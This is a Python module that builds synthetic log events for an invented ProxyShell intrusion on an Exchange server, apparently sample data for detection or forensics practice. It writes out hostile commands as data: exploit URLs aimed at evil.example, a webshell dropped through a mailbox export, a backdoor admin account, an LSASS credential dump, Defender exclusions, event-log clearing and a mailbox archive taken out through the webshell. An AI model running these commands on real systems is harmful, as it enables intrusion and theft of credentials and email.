"""The intrusion: ProxyShell to a stolen mailbox, one step after the other.

Invented from the public accounts of such cases; every name, address and value is made up.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import datetime, timedelta

from intrusion_sample import windows_events as win
from intrusion_sample.background import START, Hit, Timed, suffix
from intrusion_sample.web_log import Request

INTRUDER = "203.0.113.66"
EXPLOIT_AGENT = "Python+PSRP+Client"
SHELL = "/owa/auth/sup7.aspx"
EXCHANGE_DIR = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
SHELL_FILE = f"{EXCHANGE_DIR}FrontEnd\\HttpProxy\\owa\\auth\\sup7.aspx"
SYSTEM32 = "C:\\Windows\\System32\\"
WORKER = f"{SYSTEM32}inetsrv\\w3wp.exe"
WORKER_COMMAND = (
    'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c '
    f'"{EXCHANGE_DIR}bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" '
    "-a \\\\.\\pipe\\iisipm3f2a -h "
    '"C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0'
)
WORKER_GUID = "7B0E5C11-2F10-69A6-A201-000000003E00"
ACCOUNT = "svc-health"
ACCOUNT_SID = "S-1-5-21-1187602345-2213470911-90212377-1009"

# Minutes and seconds after the start of the log.
_COMMANDS = (
    (66, 4, "whoami.exe", "whoami"),
    (66, 22, "hostname.exe", "hostname"),
    (66, 41, "ipconfig.exe", "ipconfig /all"),
    (67, 15, "net1.exe", 'net1 group "Exchange Trusted Subsystem" /domain'),
    (67, 48, "nltest.exe", "nltest /domain_trusts /all_trusts"),
    (68, 20, "quser.exe", "quser"),
    (69, 2, "tasklist.exe", "tasklist /svc"),
    (101, 12, "net1.exe", f"net1 user {ACCOUNT} Sp1ng!me2026 /add"),
    (101, 40, "net1.exe", f"net1 localgroup administrators {ACCOUNT} /add"),
    (105, 50, "sc.exe", "sc config wuauserv start= disabled"),
    (118, 9, "rundll32.exe",
     "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 "
     "C:\\ProgramData\\lsass_2.dmp full"),
    (151, 33, "wbem\\wmic.exe",
     'wmic /node:10.0.0.7 process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"'),
    (160, 17, "schtasks.exe",
     "schtasks /create /tn VSPerfMon /tr C:\\ProgramData\\vsperf.exe /sc minute /mo 30 /ru system"),
    (222, 11, "wevtutil.exe", 'wevtutil cl "Windows PowerShell"'),
)  # fmt: skip


def requests(rng: random.Random) -> Iterator[Hit]:
    """What the front end logged of the intruder."""
    mark = "Email=autodiscover/autodiscover.json%3F@evil.example"
    exploit = (
        (61, 2, "GET", f"@evil.example/autodiscover/autodiscover.xml?&{mark}", 200),
        (61, 8, "POST", f"@evil.example/mapi/emsmdb/?&{mark}", 200),
        (61, 15, "POST", f"@evil.example/ews/exchange.asmx?&{mark}", 200),
        (62, 30, "POST", f"@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&{mark}", 200),
        (63, 40, "POST", f"@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&{mark}", 200),
        (64, 5, "POST", f"@evil.example/%70owershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&{mark}", 200),
        (64, 31, "POST", f"@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&{mark}", 200),
    )
    for minute, second, method, query, status in exploit:
        yield Hit(
            _at(minute, second),
            Request(
                "/autodiscover/autodiscover.json",
                query + suffix(rng),
                method,
                INTRUDER,
                agent=EXPLOIT_AGENT,
                status=status,
                taken_ms=300 + int(rng.random() * 400),
            ),
        )
    yield Hit(_at(64, 20), _shell(rng, "GET", 404))
    yield Hit(_at(65, 44), _shell(rng, "GET", 200))
    for minute, second, _, _ in _COMMANDS:
        yield Hit(_at(minute, second - 1), _shell(rng, "POST", 200))
    yield Hit(_at(75, 20), _shell(rng, "POST", 200))
    archive = Request(
        "/owa/auth/c.7z", suffix(rng), client=INTRUDER, agent="curl/8.4", taken_ms=88_123
    )
    yield Hit(_at(201, 30), archive)


def _at(minute: int, second: int) -> datetime:
    return START + timedelta(minutes=minute, seconds=second)


def _shell(rng: random.Random, method: str, status: int) -> Request:
    return Request(
        SHELL,
        f"{suffix(rng)}&encoding=;",
        method,
        INTRUDER,
        agent="python-requests/2.31",
        status=status,
        taken_ms=400 + int(rng.random() * 900),
    )


def events() -> Iterator[Timed]:
    """What Windows and Exchange logged of the intruder, unordered."""
    yield from _export()
    for number, (minute, second, program, command) in enumerate(_COMMANDS):
        yield from _command(number, minute, second, f"{SYSTEM32}{program}", command)
    yield from _enumeration()
    yield from _account()
    yield from _defences()
    yield from _credentials_and_task()
    yield from _theft()


def _export() -> Iterator[Timed]:
    share = SHELL_FILE.replace("C:\\", "\\\\127.0.0.1\\c$\\")
    steps = (
        (63, 41, "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "m.novak"'),
        (64, 6, "New-MailboxExportRequest",
         '-Mailbox "m.novak@contoso.example" -IncludeFolders "#Drafts#" '
         f'-ContentFilter "(Subject -eq \'sup7\')" -ExcludeDumpster "True" -FilePath "{share}"'),
        (64, 32, "Remove-MailboxExportRequest",
         '-Identity "contoso.example/Staff/m.novak\\MailboxExport" -Confirm "False"'),
    )  # fmt: skip
    for minute, second, name, parameters in steps:
        yield Timed(_at(minute, second), win.EXCHANGE, 1, win.cmdlet(name, parameters))
    yield Timed(
        _at(64, 24),
        win.SECURITY,
        5145,
        {
            "SubjectUserSid": win.SYSTEM_SID,
            "SubjectUserName": "EX01$",
            "SubjectDomainName": "CONTOSO",
            "SubjectLogonId": "0x3e7",
            "ObjectType": "File",
            "IpAddress": "127.0.0.1",
            "IpPort": "61004",
            "ShareName": "\\\\*\\C$",
            "ShareLocalPath": "\\??\\C:\\",
            "RelativeTargetName": SHELL_FILE.removeprefix("C:\\"),
            "AccessMask": "0x12019f",
            "AccessList": "%%1538\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t",
        },
    )
    yield _file(64, 25, "System", SHELL_FILE)


def _file(minute: int, second: int, image: str, target: str) -> Timed:
    moment = _at(minute, second)
    data = {
        "RuleName": "-",
        "UtcTime": f"{moment:%Y-%m-%d %H:%M:%S}.000",
        "ProcessGuid": WORKER_GUID,
        "ProcessId": 8372,
        "Image": image,
        "TargetFilename": target,
        "CreationUtcTime": f"{moment:%Y-%m-%d %H:%M:%S}.000",
        "User": "NT AUTHORITY\\SYSTEM",
    }
    return Timed(moment, win.SYSMON, 11, data)


def _command(number: int, minute: int, second: int, program: str, command: str) -> Iterator[Timed]:
    """A shell below the worker process, and the program below the shell."""
    shell_guid = f"7B0E5C11-{0x3000 + number:04X}-69A6-B{number:03X}-000000003E00"
    whole = f'"cmd" /c {command}'
    yield Timed(
        _at(minute, second),
        win.SYSMON,
        1,
        win.sysmon_process(
            f"{SYSTEM32}cmd.exe",
            whole,
            WORKER,
            WORKER_COMMAND,
            ProcessGuid=shell_guid,
            ProcessId=4300 + number * 8,
            ParentProcessGuid=WORKER_GUID,
        ),
    )
    yield Timed(
        _at(minute, second) + timedelta(milliseconds=120),
        win.SYSMON,
        1,
        win.sysmon_process(
            program,
            command,
            f"{SYSTEM32}cmd.exe",
            whole,
            ProcessGuid=f"7B0E5C11-{0x3000 + number:04X}-69A6-C{number:03X}-000000003E00",
            ProcessId=4304 + number * 8,
            ParentProcessGuid=shell_guid,
            ParentProcessId=4300 + number * 8,
        ),
    )


def _enumeration() -> Iterator[Timed]:
    snap_in = "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn"
    whole = f'powershell -nop -c "{snap_in}; . C:\\ProgramData\\q.ps1"'
    yield Timed(
        _at(75, 21),
        win.SYSMON,
        1,
        win.sysmon_process(
            f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe",
            whole,
            WORKER,
            WORKER_COMMAND,
            ProcessGuid="7B0E5C11-3100-69A6-D001-000000003E00",
            ParentProcessGuid=WORKER_GUID,
        ),
    )
    for second, script in (
        (24, "Get-ExchangeServer | fl Name,AdminDisplayVersion; Get-OwaVirtualDirectory | fl Path"),
        (31, 'Get-RoleGroupMember "Organization Management" | ft Name,RecipientType'),
        (44, "Get-Mailbox -ResultSize Unlimited | select Alias,Database > C:\\ProgramData\\m.txt"),
    ):
        data = win.script_block(script, "C:\\ProgramData\\q.ps1")
        yield Timed(_at(75, second), win.POWERSHELL, 4104, data)


def _account() -> Iterator[Timed]:
    created = win.user_created(ACCOUNT, TargetSid=ACCOUNT_SID)
    added = win.group_add(
        "Administrators", "S-1-5-32-544", "-", MemberSid=ACCOUNT_SID, TargetDomainName="Builtin"
    )
    yield Timed(_at(101, 13), win.SECURITY, 4720, created)
    yield Timed(_at(101, 41), win.SECURITY, 4732, added)


def _defences() -> Iterator[Timed]:
    script = f"Add-MpPreference -ExclusionPath 'C:\\ProgramData' -ExclusionProcess '{WORKER}'"
    exclusion = (
        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0"
    )
    product = {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.26010.5"}
    yield Timed(_at(104, 2), win.POWERSHELL, 4104, win.script_block(script))
    yield Timed(
        _at(104, 3), win.DEFENDER, 5007, {**product, "Old Value": "", "New Value": exclusion}
    )
    yield Timed(_at(104, 40), win.DEFENDER, 5001, product)
    start_type = {
        "param1": "Windows Update",
        "param2": "demand start",
        "param3": "disabled",
        "param4": "wuauserv",
    }
    yield Timed(_at(105, 51), win.SYSTEM, 7040, start_type)
    cleared = {
        "SubjectUserName": "EX01$",
        "SubjectDomainName": "CONTOSO",
        "Channel": "Windows PowerShell",
        "BackupPath": None,
    }
    yield Timed(_at(222, 12), win.SYSTEM_CLEARED, 104, cleared)


def _credentials_and_task() -> Iterator[Timed]:
    yield _file(118, 10, f"{SYSTEM32}rundll32.exe", "C:\\ProgramData\\lsass_2.dmp")
    content = (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Principals>'
        '<Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>'
        "<Actions><Exec><Command>C:\\ProgramData\\vsperf.exe</Command></Exec></Actions></Task>"
    )
    task = {
        "SubjectUserSid": win.SYSTEM_SID,
        "SubjectUserName": "EX01$",
        "SubjectDomainName": "CONTOSO",
        "SubjectLogonId": "0x3e7",
        "TaskName": "\\VSPerfMon",
        "TaskContent": content,
    }
    yield Timed(_at(160, 18), win.SECURITY, 4698, task)


def _theft() -> Iterator[Timed]:
    parameters = (
        '-Mailbox "e.fuchs@contoso.example" -ContentFilter "(Received -ge \'01/01/2026\')" '
        '-FilePath "\\\\localhost\\C$\\ProgramData\\t\\c.pst"'
    )
    yield Timed(_at(185, 3), win.EXCHANGE, 1, win.cmdlet("New-MailboxExportRequest", parameters))
    archive = f"{EXCHANGE_DIR}FrontEnd\\HttpProxy\\owa\\auth\\c.7z"
    yield from _command(
        40,
        198,
        15,
        "C:\\ProgramData\\7z.exe",
        f'C:\\ProgramData\\7z.exe a -v900m "{archive}" C:\\ProgramData\\t\\*.pst',
    )
